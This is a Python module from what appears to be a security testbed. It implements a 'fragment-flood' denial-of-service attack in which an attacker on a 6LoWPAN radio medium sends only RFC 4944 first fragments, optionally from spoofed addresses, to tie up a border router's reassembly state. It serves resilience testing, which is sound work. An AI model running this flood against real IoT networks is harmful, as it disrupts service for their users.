"""fragment-flood: RFC 4944 first fragments at the border router, from a guest radio station.

The attacker sits on the PAN's carrier network (topology ``placement: pan``) and speaks ZEP to
the radio medium itself: a HELLO registers its own extended address, then each datagram is one
802.15.4 frame holding only the FRAG1 of a large IPv6 packet (``datagram_size``, default 1280):
the receiver must keep reassembly state for it until its timeout (RFC 4944 Section 5.3: 60 s).
``sources: own`` sends every frame from the attacker's registered address; ``spoofed`` from a
fresh random extended address per frame (what a station can claim on a shared medium). The
medium never answers, so only ``sent`` moves here; the router's refusals show up in
``testbed_radio_datagrams_refused_total`` and its reassembly metrics.
"""

from __future__ import annotations

import asyncio
import ipaddress
import random
import socket
import struct

from testbed.contracts.node_config import Attr
from testbed.node.attacker.base import Attack, number, text
from testbed.node.errors import ActionError
from testbed.node.radio import addressing, frag, mac, zep

ZEP_PORT = 17754


class FragmentFlood(Attack):
    name = "fragment-flood"

    async def setup(self) -> None:
        medium = self.attributes.get(Attr.ZEP_MEDIUM)
        if not medium:
            raise ActionError(
                "fragment-flood needs an attacker placed on a radio PAN",
                "topology: hosts: [{name: mallory, role: attacker, placement: pan, pan: NAME}]",
            )
        self.medium = (str(ipaddress.IPv6Address(medium)), ZEP_PORT)
        self.pan_id = int(self.attributes.get(Attr.PAN_ID, "43981"))
        self.channel = int(self.attributes.get(Attr.CHANNEL, "15"))
        self.dst = bytes.fromhex(self.attributes.get(Attr.ROUTER_SHORT, "0001"))
        self.size = int(number(self.params, "datagram_size", 1280, 200, 2047))
        self.sources = text(self.params, "sources", "own")
        if self.sources not in ("own", "spoofed"):
            raise ActionError("sources must be 'own' or 'spoofed'")
        self.rng = random.Random(int(number(self.params, "seed", 1, 0, 2**32)))
        self.own = bytes((0x02 | 0x00,)) + bytes(self.rng.getrandbits(8) for _ in range(7))
        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.sock.setblocking(False)
        self.sock.sendto(zep.encode_hello(self.own), self.medium)
        self.reader = asyncio.get_running_loop().create_task(self._drain())

    async def _drain(self) -> None:
        # The medium delivers the PAN's frames to every registered station: read them away.
        loop = asyncio.get_running_loop()
        while True:
            await loop.sock_recv(self.sock, 2048)

    def frame(self, index: int) -> bytes:
        src = (
            self.own
            if self.sources == "own"
            else bytes((0x02,)) + bytes(self.rng.getrandbits(8) for _ in range(7))
        )
        packet = _udp_packet(src, self.dst, self.size)
        first = frag.fragment(
            packet, src, self.dst, max_payload=mac.max_payload(8, 2), tag=index & 0xFFFF
        )[0]
        body = mac.encode_data(
            seq=index & 0xFF, pan_id=self.pan_id, src=src, dst=self.dst, payload=first
        )
        return zep.encode_data(body, channel=self.channel, seq=index)

    async def send_one(self, index: int) -> None:
        self.sock.sendto(self.frame(index), self.medium)
        self.counters.add("sent")

    async def close(self) -> None:
        self.reader.cancel()
        self.sock.close()


def _udp_packet(src: bytes, dst: bytes, size: int) -> bytes:
    """An IPv6/UDP packet of ``size`` bytes between the link-local addresses of two stations."""
    payload = size - 40
    udp = struct.pack("!HHHH", 61616, 61617, payload, 0) + bytes(payload - 8)
    header = struct.pack("!IHBB", 6 << 28, payload, 17, 64)
    return header + addressing.link_local(src) + addressing.link_local(dst) + udp
